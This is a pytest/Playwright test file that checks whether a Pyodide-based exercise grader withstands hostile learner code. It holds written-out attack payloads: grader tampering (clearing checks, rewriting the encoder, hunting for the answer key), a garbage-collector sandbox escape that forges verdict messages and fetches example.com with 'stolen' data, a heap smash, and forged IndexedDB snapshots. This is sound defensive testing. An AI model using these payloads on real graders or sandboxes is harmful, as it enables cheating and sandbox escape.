"""Code that attacks the grader, the interpreter or the page, typed or pasted by a learner.

Every run has a fresh Python that is thrown away afterwards, and the verdict is decided by a
judge that never runs learner code (ARCHITECTURE.md). So for every attack: the run does not
pass, the next runs get their right verdicts (and after them all, the diamond's run, which uses
every tab's code), no request leaves the site (the workers take the page's CSP), and the next
visit is unaffected.
"""

import pytest
from playwright.sync_api import expect

from grader import grade
from grader.cli.isolated import grade_isolated
from grader.exercises import catalog
from runner.sandbox import OUTPUT_LIMIT

WRONG_MUL = "self.grad = other.data * out.grad\nother.grad = self.data * out.grad\n"

# each body misbehaves, then (where it gets that far) writes a wrong closure
ATTACKS = {
    # the verdict's inputs, changed in place rather than rebound
    "clears the checks it is given": (
        "import runner.observe as o\nfor e in o.data()['exercises'].values():\n"
        "    e['checks'].clear()\nself.grad += 0.0\n"
    ),
    "rewrites the number encoder's code": (
        "import runner.numbers as n\nn.encode.__code__ = (lambda value: 1.0).__code__\n"
        "self.grad += 0.0\n"
    ),
    "swaps a module's class": (
        "import types, json\nclass Fake(types.ModuleType):\n"
        "    def __getattribute__(self, name):\n        return lambda *a, **k: '{}'\n"
        "json.__class__ = Fake\nself.grad += 0.0\n"
    ),
    "patches a context manager's exit": (
        "import contextlib\ncontextlib._GeneratorContextManager.__exit__ = lambda *a: True\n"
        "self.grad += 0.0\n"
    ),
    # code that runs later, on its own
    "leaves a finalizer and a hash behind": (
        "import runner.observe as o\nclass Late:\n    def __del__(self):\n"
        "        o.MAX_STEPS = 0\n    def __hash__(self):\n        return 0\n"
        "o.left = [Late() for _ in range(10)]\nself.grad += 0.0\n"
    ),
    "installs a tracer, a profiler and an audit hook": (
        "import sys\ndef hook(*args):\n    return hook\nsys.settrace(hook)\nsys.setprofile(hook)\n"
        "sys.addaudithook(lambda *a: None)\nmonitoring = getattr(sys, 'monitoring', None)\n"
        "if monitoring and monitoring.get_tool(4) is None:\n"
        "    monitoring.use_tool_id(4, 'x')\n"
        "    monitoring.register_callback(4, monitoring.events.PY_START, hook)\n"
        "    monitoring.set_events(4, monitoring.events.PY_START)\n"
        "self.grad += 0.0\n"
    ),
    # looking for the answers
    "walks up the frames for the answer key": (
        "import sys\nf = sys._getframe()\nwhile f:\n"
        "    for k, v in list(f.f_locals.items()) + list(f.f_globals.items()):\n"
        "        if 'expect' in str(k):\n            self.grad += v\n    f = f.f_back\n"
        "try:\n    import grader.answer_key\nexcept ImportError:\n    pass\n"
    ),
    # numbers that are not numbers, and exceptions that are not what they seem
    "gives nan, inf and a huge int": ("self.grad += float('nan')\nother.grad = 10**400\n"),
    "raises an exception whose message raises": (
        "class E(Exception):\n    def __str__(self):\n        raise RuntimeError('no')\nraise E()\n"
    ),
    "raises an ImportError whose name is not text": "e = ImportError('x')\ne.name = 5\nraise e\n",
    "writes what is not text to the output": "import sys\nsys.stdout.write(12)\n" + WRONG_MUL,
    "exits": "import sys\nsys.exit(0)\n",
    "raises KeyboardInterrupt": "raise KeyboardInterrupt\n",
    "rebinds builtins": "import builtins\nbuiltins.round = lambda *a: 0\nbuiltins.abs = None\n",
    "imports js": "import js\njs.document.body.innerHTML = 'gone'\n",
}

# Learner code reaches JavaScript: it finds the modules the sandbox set aside, and Pyodide's
# import hook for `js`, through the garbage collector. From there it posts forged answers to
# the page, asks another site for something, and replaces JSON.parse (REACH_JS), or writes
# over its own Python's memory (SMASH).
REACH_JS = """import gc, importlib.util
sandbox = next(o for o in gc.get_objects()
               if getattr(getattr(o, "gi_code", None), "co_name", "") == "guarded")
saved = sandbox.gi_frame.f_locals["saved_modules"]
for finder in sandbox.gi_frame.f_locals["saved_finders"]:
    spec = getattr(finder, "find_spec", lambda *a: None)("js", None)
    if spec:
        js = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(js)
"""
ESCAPE = (
    REACH_JS
    + """for _ in range(20):
    js.postMessage(js.JSON.parse('{"type": "observed", "observation": "{}"}'))
js.fetch("https://example.com/?code=stolen")
js.JSON.parse = js.Object
self.grad += 0.0
"""
)
SMASH = (
    REACH_JS
    + """heap = saved["pyodide_js"]._module.HEAPU8
heap.fill(7, 1 << 16, heap.length >> 1)
self.grad += 0.0
"""
)
# What JavaScript with all the time it wants could do in a worker that kept IndexedDB (a runner
# no longer does, widget/src/worker/cut-off.js; the judge, which runs no learner code, does): save
# forged snapshots where the next visit's runner and judge would read them, and post forged
# messages.
FORGE_SNAPSHOT = """async () => {
  const done = (request) => new Promise((resolve) => {
    request.onsuccess = () => resolve(request.result);
  });
  const databases = await indexedDB.databases();
  const name = databases.find((db) => db.name.endsWith(":python-memory")).name;
  const db = await done(indexedDB.open(name));
  const store = (mode) => db.transaction("snapshots", mode).objectStore("snapshots");
  const entry = await done(store("readonly").get("runner"));
  for (const role of ["runner", "judge"])
    await done(store("readwrite").put({ ...entry, bytes: new Blob(["forged"]) }, role));
  for (let n = 0; n < 20; n++) self.postMessage({ type: "observed", observation: "{}" });
  return entry.bytes.size;
}"""


def expect_the_right_verdicts(learner, exercises):
    """The next runs get their right verdicts: on the attacked tab a wrong closure fails and the
    right one passes."""
    assert learner.solve("__mul__", WRONG_MUL) == "fail"
    assert learner.solve("__mul__", exercises["mul"].solutions["mul"]) == "pass"


@pytest.fixture(scope="module")
def solved(learner, exercises):
    """The module's learner, with every op tab at its reference: the diamond passes."""
    for op in ("add", "mul", "pow", "tanh", "exp", "relu"):
        assert learner.solve(exercises[op].label, exercises[op].solutions[op]) == "pass"
    return learner


@pytest.mark.parametrize("what", ATTACKS)
def test_an_attack_does_not_pass_and_changes_nothing_after_it(solved, exercises, what):
    body = ATTACKS[what]
    # in CPython too, in a process of its own: this test's process never runs the attack
    assert grade_isolated("mul", {"mul": body}, catalog())["verdict"] != "pass"
    assert solved.solve("__mul__", body) in ("fail", "error")
    expect_the_right_verdicts(solved, exercises)


def test_after_every_attack_the_diamond_passes(solved, exercises):
    """After the attacks above (this file's order): the diamond, which runs every tab's saved
    code, passes, so none left behind anything a later run meets, on any tab."""
    solved.open_tab("diamond")
    assert solved.run() == grade("diamond", exercises["diamond"].solutions)["verdict"] == "pass"


def test_javascript_reached_from_learner_code_can_do_nothing(new_visitor, exercises):
    """Forged messages, a request to another site and JSON.parse replaced, from learner code:
    the run fails as it would without them, and nothing leaves the site (the runner takes the
    page's CSP, so the request is refused before it is made)."""
    learner, watch = new_visitor()
    assert learner.solve("__mul__", ESCAPE) == "fail"
    assert learner.solve("__mul__", WRONG_MUL) == "fail"
    assert learner.solve("__mul__", exercises["mul"].solutions["mul"]) == "pass"
    assert not [url for url in watch.requests if "example.com" in url]
    assert watch.blocked == []
    watch.errors.clear()  # the refused request, as the worker logged it


def test_learner_code_that_overwrites_its_own_python_s_memory_hurts_only_its_run(
    new_visitor, exercises
):
    learner, watch = new_visitor()
    assert learner.solve("__mul__", SMASH) == "error"
    assert "Python crashed" in learner.result_text()
    assert learner.solve("__mul__", WRONG_MUL) == "fail"
    assert learner.solve("__mul__", exercises["mul"].solutions["mul"]) == "pass"
    watch.errors.clear()  # what the smashed Python logged as it broke


def test_a_snapshot_forged_in_a_worker_is_never_restored(visit, exercises):
    """A runner, where learner code runs, cannot reach the saved snapshots at all; one forged
    in a worker that can is found by the next visit not to match the digest the page keeps: it
    starts Python from scratch, grades as ever, and saves a good snapshot again."""
    learner, _ = visit()
    # a first runner saves the snapshot, and the page its digest, before it is ready to run
    assert learner.solve("__add__", exercises["add"].solutions["add"]) == "pass"
    learner.python_settled()  # the spare runner ready: cut off before it could run learner code
    assert learner.python_worker("runner").evaluate("() => typeof indexedDB") == "undefined"
    assert learner.python_worker("judge").evaluate(FORGE_SNAPSHOT) > 1_000_000
    learner.reload()
    assert learner.python_restored() is False
    assert learner.solve("__mul__", WRONG_MUL) == "fail"
    assert learner.solve("__add__", exercises["add"].solutions["add"]) == "pass"
    learner.reload()
    assert learner.python_restored() is True  # a good one was saved again


FORGER = """() => {
  self.forging = setInterval(() => {
    for (let n = 0; n < 20; n++) self.postMessage({ type: "observed", observation: "{}" });
    self.postMessage({ type: "judged", id: 1, result: '{"verdict": "pass"}' });
  }, 2);
}"""


def test_messages_forged_in_a_worker_s_global_scope_are_ignored(learner, exercises):
    learner.python_worker("runner").evaluate(FORGER)
    learner.python_worker("judge").evaluate(FORGER)
    assert learner.solve("__mul__", WRONG_MUL) == "fail"
    assert learner.solve("__mul__", exercises["mul"].solutions["mul"]) == "pass"
    learner.python_worker("judge").evaluate("clearInterval(self.forging)")
    expect(learner.widget.locator(".mg-status__text")).to_have_text("Python ready")


def test_each_run_s_python_is_ended_once_its_verdict_is_shown(learner, exercises):
    """The spare runs the code, the page shows the verdict, then ends that runner: the page is
    left with its judge and a new spare."""
    for body in (WRONG_MUL, exercises["mul"].solutions["mul"]):
        used = learner.python_worker("runner")
        learner.open_tab("__mul__")
        learner.write(body)
        learner.run()
        assert learner.python_roles() == ["judge", "runner"]
        assert used not in learner.python_workers


def test_huge_output_is_capped_with_a_note_and_shown_as_text(learner, exercises):
    # ~300 KB a closure call, 15 times the cap, and within the time limit on a busy machine
    body = "for i in range(30000):\n    print('<i>', i)\n" + exercises["mul"].solutions["mul"]
    assert learner.solve("__mul__", body) == "pass"
    output = learner.result.locator("details", has_text="What your code printed")
    output.locator("summary").click()
    shown = output.locator("pre").inner_text()
    assert shown.startswith("<i> 0\n") and len(shown) <= OUTPUT_LIMIT
    # the lines it printed, every one, and how many of them are shown
    lines = f"{grade('mul', {'mul': body})['stdout_lines']:,} lines"  # as CPython's run counts them
    expect(output.locator("summary")).to_have_text(f"What your code printed ({lines})")
    note = "The output was long, so only its beginning is shown:"
    kept = shown.rstrip("\n").count("\n") + 1
    expect(output.get_by_text(note)).to_have_text(f"{note} {kept:,} of its {lines}.")
    expect(output.locator("i")).to_have_count(0)
